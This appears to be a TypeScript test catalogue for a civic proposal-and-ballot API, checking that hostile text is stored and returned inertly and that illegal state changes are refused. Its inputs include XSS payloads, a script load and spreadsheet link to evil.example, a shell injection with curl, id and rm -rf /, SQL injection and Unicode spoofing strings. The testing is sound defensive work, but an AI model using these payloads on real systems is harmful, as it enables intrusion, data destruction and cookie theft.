/** Texts of people, and when they may change (PR-01 to PR-13). */
import { type Case, hostile } from '../catalogue.ts'

const stored = /#(proposals|person|request)#/
const marks = '\u0301'.repeat(50)

/** Markup is text: it comes back as it was sent, as JSON that no browser takes for a page. */
const inert: readonly (readonly [what: string, pointer: string, value: string])[] = [
  ['a script in the title', '/title', '<script>alert(1)</script>'],
  ['an image that runs in the summary', '/summary', 'Gardens <img src=x onerror=alert(document.cookie)> for all'],
  ['an SVG in the place', '/place', '<svg/onload=alert(1)>'],
  [
    'a link that runs in the description',
    '/description',
    '[click](javascript:alert(1)) <iframe srcdoc="<script>1</script>">',
  ],
  ['the end of a script block', '/description', '</script><script src=//evil.example></script>'],
  ['a template of a page', '/title', '{{constructor.constructor("alert(1)")()}}'],
  ['a formula', '/title', '=HYPERLINK("https://evil.example","click")'],
  ['a command of a shell', '/place', '$(curl evil.example) `id` ; rm -rf /'],
  ['a query of a database', '/title', "x'; DROP TABLE proposals; --"],
]

const spoilt: readonly (readonly [what: string, pointer: string, value: string])[] = [
  ['a word that runs backwards', '/title', 'Gardens \u202etxet'],
  ['a text that isolates what follows', '/summary', 'Residents make \u2066sixty small gardens.'],
  ['a NUL', '/title', 'Gardens\u0000 along'],
  ['an escape of a terminal', '/place', 'Street \u001b[2J'],
  ['half a character', '/title', 'Gardens \ud800 along'],
  ['a line break in one line', '/title', 'Gardens\nalong the street'],
  ['blanks only', '/title', '          '],
  ['a title that nobody can see', '/title', '\u200b\u200b\u200b\u200b\u200b\u2060\u2060\u200d'],
  ['a title of blank letters', '/title', '\u3164\u3164\u3164\u3164\u3164\u3164'],
  ['a letter under fifty marks', '/title', `Gardens e${marks} along`],
  ['a hundred and one characters', '/title', 'a'.repeat(101)],
  ['a description of six thousand', '/description', 'a'.repeat(6000)],
]

export const contentCases: readonly Case[] = [
  ...inert.map(([what, pointer, value], index) =>
    hostile(`PR-01.${index + 1}`, what, 'noor', 'submitProposal', { set: { [pointer]: value } }, '201', {
      changes: stored,
      shows: JSON.stringify(value),
      headers: {
        'Content-Type': 'application/json',
        'X-Content-Type-Options': 'nosniff',
        'Content-Security-Policy': /default-src 'none'/,
      },
    }),
  ),
  hostile('PR-01.10', 'a person whose name is markup', 'markup', 'submitProposal', {}, '201', {
    changes: stored,
    shows: '"name":"<img src=x onerror=alert(1)>"',
    headers: { 'Content-Type': 'application/json', 'X-Content-Type-Options': 'nosniff' },
  }),
  ...spoilt.map(([what, pointer, value], index) =>
    hostile(`PR-05.${index + 1}`, what, 'noor', 'submitProposal', { set: { [pointer]: value } }, '400 invalid-input', {
      shows: `"pointer":"${pointer}"`,
    }),
  ),
  hostile(
    'PR-05.13',
    'a letter and its mark become one',
    'noor',
    'submitProposal',
    { set: { '/title': 'Cafe\u0301 in the park' } },
    '201',
    {
      changes: stored,
      shows: '"Caf\u00e9 in the park"',
    },
  ),
  hostile(
    'PR-05.14',
    'a family of four in one character, and Persian with its joiners',
    'noor',
    'submitProposal',
    {
      set: {
        '/title':
          '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466} \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645',
      },
    },
    '201',
    {
      changes: stored,
      shows: '\u200d',
    },
  ),
  hostile('PR-11.1', 'one plan posted twice', 'noor', 'submitProposal', { key: 'the-plan-before' }, '201', {
    first: async ({ sure, sample }) => {
      await sure('submitProposal', { ...sample('submitProposal'), key: 'the-plan-before' })
      return undefined
    },
    headers: { 'Idempotent-Replayed': 'true' },
  }),
  hostile(
    'PR-13.1',
    'a plan improved on the ballot paper',
    'noor',
    'improveProposal',
    ({ ids }) => ({ params: { proposalId: ids.choice ?? '' }, ifMatch: 3 }),
    '409 illegal-transition',
  ),
  hostile(
    'PR-13.2',
    'a plan improved after it won',
    'noor',
    'improveProposal',
    ({ samples }) => ({
      params: samples.approveProposal.params as { proposalId: string },
      ifMatch: Number(samples.approveProposal.ifMatch),
    }),
    '409 illegal-transition',
  ),
  hostile(
    'PR-13.3',
    'a plan withdrawn while people vote on it',
    'noor',
    'withdrawProposal',
    ({ ids }) => ({ params: { proposalId: ids.choice ?? '' }, ifMatch: 3 }),
    '409 illegal-transition',
  ),
  hostile(
    'PR-13.4',
    'an answer to a question that nobody asked',
    'noor',
    'answerQuestion',
    ({ ids }) => ({ params: { proposalId: ids.submitted ?? '' }, ifMatch: 1 }),
    '409 illegal-transition',
  ),
  hostile(
    'PR-13.5',
    'a plan checked twice',
    'carla',
    'checkProposal',
    ({ ids }) => ({ params: { proposalId: ids.checked ?? '' }, ifMatch: 2 }),
    '409 illegal-transition',
  ),
  hostile(
    'PR-13.6',
    'a plan for the council placed on a ballot',
    'carla',
    'placeProposal',
    ({ ids }) => ({ set: { '/proposalId': ids.capital } }),
    '409 wrong-track',
  ),
  hostile(
    'PR-13.7',
    'a plan on a second paper',
    'carla',
    'placeProposal',
    ({ ids }) => ({ set: { '/proposalId': ids.choice } }),
    '409 illegal-transition',
  ),
  hostile(
    'PR-13.8',
    'a plan taken off a paper that it is not on',
    'carla',
    'takeOffProposal',
    ({ ids }) => ({ set: { '/proposalId': ids.checked } }),
    '404 not-found',
  ),
]
